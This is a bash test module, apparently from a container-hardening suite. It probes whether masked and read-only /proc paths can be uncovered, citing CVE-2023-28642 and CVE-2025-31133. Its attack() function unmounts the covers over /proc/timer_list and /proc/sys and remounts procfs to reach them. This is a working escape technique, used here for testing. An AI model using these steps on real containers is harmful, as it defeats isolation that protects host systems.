# What of /proc is hidden or read-only, uncovered: the covers unmounted, or the same file system shown anew.
# CVE-2023-28642, CVE-2025-31133
# shellcheck shell=bash disable=SC2034,SC2154

# As a container has them, by a root that was given CAP_SYS_ADMIN.
open='unshare --mount --pid --fork --mount-proc covered'
user_open="$as_root ${open#unshare}"

prepare() {
    printf '%s\n' '#!/bin/sh' 'mount --bind /dev/null /proc/timer_list' 'mount --bind -o ro /proc/sys /proc/sys' 'exec "$@"' >/srv/attacks/covered
    chmod +x /srv/attacks/covered
}

attack() {
    local said
    said=$(
        mkdir -p /tmp/proc
        umount /proc/timer_list 2>&1
        umount -l /proc/sys 2>&1
        mount -t proc proc /tmp/proc 2>&1
        mount --bind /proc /tmp/proc 2>&1
    )
    for proc in /proc /tmp/proc; do
        [ -z "$(head -c 1 $proc/timer_list 2>/dev/null)" ] || exit 0
        # Of the latter a user namespace's root may write this, a limit which others are held by; nothing is written.
        ( : >>$proc/sys/user/max_user_namespaces ) 2>/dev/null && exit 0
    done
    stopped "$said"
}
